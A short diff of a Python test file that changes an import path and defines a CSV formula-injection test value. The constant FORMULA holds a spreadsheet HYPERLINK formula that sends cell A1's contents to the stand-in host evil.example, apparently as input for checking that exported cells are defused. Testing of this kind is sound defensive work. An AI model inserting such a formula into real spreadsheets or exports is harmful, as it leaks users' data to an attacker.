@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from controller.items import FIELDS, csv_row
+from controller.browse.items import FIELDS, csv_row
 from core.csv_cells import defused
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
